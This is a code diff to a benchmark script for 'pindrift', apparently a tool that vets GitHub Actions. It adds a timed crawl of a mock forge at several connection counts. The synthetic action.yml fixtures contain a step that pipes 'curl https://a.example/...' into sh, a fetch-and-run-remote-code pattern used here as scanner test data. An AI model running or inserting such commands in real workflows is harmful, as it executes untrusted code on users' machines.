@@ -8,12 +8,15 @@ import type { Report } from '../src/report/report.js';
 import { createSources, memoryCache } from '../src/sources/index.js';
 import { memoryTree } from '../src/sources/tree.js';
 import { vet } from '../src/vet.js';
+import { start } from '../test/forge/child.js';
+import { startForge } from '../test/forge/forge.js';
+import { createRepository } from '../test/forge/repository.js';
 
 /** One measured number; `unit` says what of. */
 interface Figure {
   readonly name: string;
   readonly value: number;
-  readonly unit: 's' | 'MB' | 'ratio' | 'exponent';
+  readonly unit: 's' | 'MB' | 'ratio' | 'exponent' | '/s';
 }
 
 interface Result {
@@ -21,6 +24,7 @@ interface Result {
   readonly figures: readonly Figure[];
 }
 
+const CLI = join(import.meta.dirname, '../bin/pindrift.js');
 const SHA = '0123456789abcdef0123456789abcdef01234567';
 
 const { values } = parseArgs({
@@ -43,6 +47,7 @@ if (values.compare.length === 2) {
 } else {
   const figures = [
     ...(await growth(values.short ? 4 : 8)),
+    ...(await crawling(values.short ? 32 : 96)),
     ...(values.refs ? await labels(values.refs) : []),
   ];
   const machine = `${cpus()[0]?.model ?? 'unknown'} × ${cpus().length}, ${Math.round(totalmem() / 2 ** 30)} GB, ${platform()} ${release()}, Node ${process.version}`;
@@ -103,10 +108,53 @@ function exponent(sizes: readonly number[], times: readonly number[]): number {
   return over / x.reduce((sum, one) => sum + (one - mx) ** 2, 0);
 }
 
+/** Actions a second that a crawl of a forge gets through, whose every answer takes 50 ms to begin. */
+async function crawling(count: number): Promise<Figure[]> {
+  const forge = await startForge(50);
+  const folder = mkdtempSync(join(tmpdir(), 'pindrift-bench-'));
+  const refs = Array.from({ length: count }, (_, at) => {
+    const repository = createRepository();
+    forge.repositories.set(`o/r${at}`, repository);
+    const sha = repository.commit({
+      'action.yml': `name: x\nruns:\n  using: composite\n  steps:\n    - run: curl https://a.example/${at} | sh\n      shell: bash\n`,
+    });
+    return `o/r${at}@${sha}`;
+  });
+  writeFileSync(join(folder, 'list'), refs.join('\n'));
+  const figures: Figure[] = [];
+  for (const connections of [1, 4, 16]) {
+    const started = performance.now();
+    const { status, output } = await start(
+      CLI,
+      [
+        'crawl',
+        '--list',
+        join(folder, 'list'),
+        '--output',
+        join(folder, `${connections}.jsonl`),
+        '--api-url',
+        forge.apiUrl,
+        '--connections',
+        String(connections),
+      ],
+      { PINDRIFT_CACHE_DIR: join(folder, `cache-${connections}`) },
+    ).done;
+    if (status !== 0) throw new Error(`crawl: ${output}`);
+    const seconds = (performance.now() - started) / 1000;
+    figures.push({
+      name: `crawl, 50 ms delay, ${connections} connection${connections === 1 ? '' : 's'}`,
+      value: count / seconds,
+      unit: '/s',
+    });
+  }
+  await forge.close();
+  rmSync(folder, { recursive: true });
+  return figures;
+}
+
 /** Cold and warm `vet` of the refs with one worker and with two, over a bare parse of the JavaScript that it read. */
 async function labels(file: string): Promise<Figure[]> {
   const refs = readFileSync(file, 'utf8').split(/\s+/).filter(Boolean);
-  const cli = join(import.meta.dirname, '../bin/pindrift.js');
   const cache = mkdtempSync(join(tmpdir(), 'pindrift-bench-'));
   const run = (workers: number) => {
     const started = performance.now();
@@ -115,7 +163,7 @@ async function labels(file: string): Promise<Figure[]> {
       [
         '--import',
         `data:text/javascript,process.on('exit',()=>process.stderr.write('peak '+process.resourceUsage().maxRSS))`,
-        cli,
+        CLI,
         'vet',
         ...refs,
         '--mirror',
@@ -129,14 +177,16 @@ async function labels(file: string): Promise<Figure[]> {
       { encoding: 'utf8', maxBuffer: 2 ** 30, env: { ...process.env, PINDRIFT_CACHE_DIR: cache } },
     );
     const peak = Number(/peak (\d+)\s*$/.exec(stderr)?.[1] ?? 0) / 1024;
-    return { seconds: (performance.now() - started) / 1000, peak, report: JSON.parse(stdout) as Report };
+    return { seconds: (performance.now() - started) / 1000, peak, stdout };
   };
   const one = run(1);
   rmSync(cache, { recursive: true });
   const two = run(2);
   const warm = run(2);
   rmSync(cache, { recursive: true });
-  const bare = await bareParse(one.report);
+  if (one.stdout !== two.stdout || two.stdout !== warm.stdout)
+    throw new Error('the report depends on the number of workers or on the cache');
+  const bare = await bareParse(JSON.parse(one.stdout) as Report);
   return [
     { name: 'vet, cold, one worker', value: one.seconds, unit: 's' },
     { name: 'vet, cold, two workers', value: two.seconds, unit: 's' },
